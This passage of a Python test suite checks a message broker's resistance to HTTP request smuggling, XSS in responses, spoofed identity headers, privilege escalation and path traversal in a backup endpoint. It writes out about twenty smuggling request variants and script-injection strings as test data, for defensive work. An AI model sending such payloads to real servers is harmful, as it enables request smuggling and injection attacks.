        line = b"POST /queues/smuggle/messages HTTP/1.1\r\nHost: a\r\n" + login
        second = b"POST /queues/smuggled/messages HTTP/1.1\r\nHost: a\r\n" + login + b"Content-Length: 1\r\n\r\nx"
        for name, request in {
            "CL and TE": line + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + second,
            "TE and CL": line + b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n" + second,
            "two lengths": line + b"Content-Length: 0\r\nContent-Length: 4\r\n\r\n" + second,
            "lengths in one": line + b"Content-Length: 0, 4\r\n\r\n" + second,
            "negative": line + b"Content-Length: -1\r\n\r\n" + second,
            "hidden TE": line + b"Content-Length: 4\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + second,
            "TE with a tab": line + b"Content-Length: 4\r\nTransfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n" + second,
            "unknown TE": line + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + second,
            "two TEs": line + b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" + second,
            "folded": line + b"X: a\r\n Transfer-Encoding: chunked\r\nContent-Length: 0\r\n\r\n" + second,
            "bare line feeds": line.replace(b"\r\n", b"\n") + b"Content-Length: 0\n\n" + second,
            "line feed in a header": line + b"X: a\nTransfer-Encoding: chunked\r\nContent-Length: 0\r\n\r\n" + second,
            "carriage return in a header": line + b"X: a\rTransfer-Encoding: chunked\r\nContent-Length: 0\r\n\r\n" + second,
            "NUL": line + b"X: a\0b\r\nContent-Length: 0\r\n\r\n" + second,
            "chunk size with a sign": line + b"Transfer-Encoding: chunked\r\n\r\n+0\r\n\r\n" + second,
            "chunk size of 64 bits and more": line + b"Transfer-Encoding: chunked\r\n\r\n10000000000000000\r\n\r\n" + second,
            "chunk line with a line feed alone": line + b"Transfer-Encoding: chunked\r\n\r\n0\n\r\n" + second,
            "chunk extension without end": line + b"Transfer-Encoding: chunked\r\n\r\n1;" + b"x" * 100_000 + b"\r\na\r\n0\r\n\r\n" + second,
            "chunk that is longer than it says": line + b"Transfer-Encoding: chunked\r\n\r\n1\r\nabc\r\n0\r\n\r\n" + second,
            "two hosts": line + b"Host: b\r\nContent-Length: 0\r\n\r\n" + second,
        }.items():
            with self.subTest(name):
                answer = raw(self.bus.http_port, request)
                self.assertRegex(answer, rb"\AHTTP/1\.1 (400|501) ")
                self.assertEqual(1, answer.count(b"HTTP/1.1 "), answer)
        self.assertEqual(404, self.bus.http("GET", "/queues/smuggled/messages")[0])

    def test_an_honest_chunk_extension_is_read_over(self):
        login = b"Authorization: Basic " + base64.b64encode(b"admin:secret") + b"\r\n"
        answer = raw(self.bus.http_port, b"POST /queues/fine/messages HTTP/1.1\r\nHost: a\r\nConnection: close\r\n" + login +
                     b"Transfer-Encoding: chunked\r\n\r\n5;a=b\r\nhello\r\n0\r\nTrailer: x\r\n\r\n")
        self.assertRegex(answer, rb"\AHTTP/1\.1 201 ")
        self.assertEqual("hello", base64.b64decode(json.loads(self.bus.http("GET", "/queues/fine/messages")[2])[0]["body"]).decode())

    def test_what_others_wrote_is_never_shown_as_a_page(self):
        """CVE-2026-52760: text of messages and destinations comes as JSON or plain text, and says so."""
        script = "<script>alert(1)</script>\"'\\\n"
        name = script.replace("\n", "").replace("/", "%2F").replace("<", "%3C").replace(">", "%3E").replace('"', "%22").replace("\\", "%5C")
        self.assertEqual(201, self.bus.http("POST", f"/queues/{name}/messages", script.encode(), {"Content-Type": "text/html",
                                            "X-Property-a": "<b>", "X-Correlation-Id": "<i>"})[0])
        for path in (f"/queues/{name}/messages?browse=true", f"/queues/{name}/messages?wait={name}", "/api/v1/queues", f"/api/v1/queues/{name}",
                     "/api/v1/sessions", "/api/v1/services", "/api/v1/notices", "/api/v1/transactions", "/metrics", f"/{name}",
                     f"/queues/{name}", "/healthz", f"/services/{name}", "/services/orders", "/services/orders?wsdl"):
            with self.subTest(path):
                _, headers, body = self.bus.http("GET", path)
                kind = headers["Content-Type"].split(";")[0]
                self.assertIn(kind, ("application/json", "text/plain", "text/xml"))
                self.assertEqual("nosniff", headers["X-Content-Type-Options"])
                if kind == "application/json":
                    json.loads(body)
                if kind == "text/xml":
                    self.assertNotIn(b"<script", body)
        with self.subTest("labels of metrics"):
            lines = [line for line in self.bus.http("GET", "/metrics")[2].decode().splitlines() if "<script" in line]
            self.assertTrue(lines)
            for line in lines:
                self.assertRegex(line, r'^busbar_[a-z_]+\{queue="(\\.|[^"\\])*"(,[a-z]+="[a-z0-9-]*")*\} \S+$')

    def test_the_address_in_a_description_is_no_markup(self):
        for host in ('a"/><script>', "a&b", "a b", "x" * 5000):
            _, _, body = self.bus.http("GET", "/services/orders?wsdl", headers={"X-Forwarded-Host": host})
            self.assertNotIn(b"<script", body)
            self.assertIn(b"http://localhost/services/orders" if host[0] == "a" else b"/services/orders", body)

    def test_a_client_cannot_say_who_it_is(self):
        for header in ("X-Busbar-User", "X-Busbar-Roles", "x-busbar-user", "X-BUSBAR-ROLES"):
            self.assertEqual(401, self.bus.http("GET", "/api/v1/queues", headers={header: "admin"}, login=False)[0])


class UsersTest(RivalTest):
    def run_busbar(self, *arguments):
        run = subprocess.run([BUSBAR, *arguments, "--data", str(self.bus.data)], input="secret\n", capture_output=True, text=True,
                             timeout=60, env=clean_environment())
        self.assertEqual(0, run.returncode, run.stderr)

    def test_a_new_user_is_no_administrator(self):
        """CVE-2026-49877: whoever was added could do everything. CVE-2022-41678: and have the broker write files and run code."""
        self.bus.terminate()
        self.run_busbar("user", "add", "new")
        self.bus.start()
        self.assertEqual(201, self.ask("new", "POST", "/queues/q/messages", b"x")[0])
        for method, path, body in (("GET", "/metrics", None), ("GET", "/api/v1/queues", None), ("GET", "/api/v1/sessions", None),
                                   ("POST", "/api/v1/journal/backup", b'{"to":"/tmp/stolen"}'), ("GET", "/api/v1/journal/backup", None),
                                   ("DELETE", "/api/v1/queues/q", None), ("PUT", "/api/v1/queues/q", b"{}"),
                                   ("DELETE", "/queues/q/messages", None), ("POST", "/queues/q/move?to=r", b""),
                                   ("GET", "/api/v1/transactions", None)):
            with self.subTest(method=method, path=path):
                self.assertEqual(403, self.ask("new", method, path, body)[0])
        self.assertFalse(pathlib.Path("/tmp/stolen").exists())
        for path in ("/jolokia", "/jolokia/list", "/api/jolokia", "/jmx", "/console", "/admin", "/actuator", "/hawtio"):
            self.assertEqual(404, self.bus.http("GET", path)[0], path)  # there is no such bridge, for nobody

    def test_a_backup_overwrites_nothing(self):
        """The one thing over HTTP that writes where its caller says: administrators alone, and only into an empty place."""
        precious = self.bus.directory / "precious"
        precious.mkdir()
        (precious / "file").write_text("mine")
        before = sorted(p.name for p in precious.iterdir())
        for to in (str(precious), "relative", "../up", "", str(self.bus.data), str(precious / "file")):
            status, _, answer = self.bus.http("POST", "/api/v1/journal/backup", json.dumps({"to": to}).encode())
            deadline = time.monotonic() + 10
            while status == 202 and time.monotonic() < deadline:
                state = json.loads(self.bus.http("GET", "/api/v1/journal/backup")[2])["state"]
                if state != "running":
                    self.assertEqual("failed", state, to)
                    break
                time.sleep(0.02)
            else:
                self.assertIn(status, (400, 409, 422), (to, answer))
        self.assertEqual((before, "mine"), (sorted(p.name for p in precious.iterdir()), (precious / "file").read_text()))


def next_or_error(self, timeout=10):
    """The next frame that is no MESSAGE."""
    while (frame := self.read(timeout))[0] == "MESSAGE":
        pass
    return frame


Wire.next_or_error = next_or_error

if __name__ == "__main__":
    unittest.main(verbosity=2)
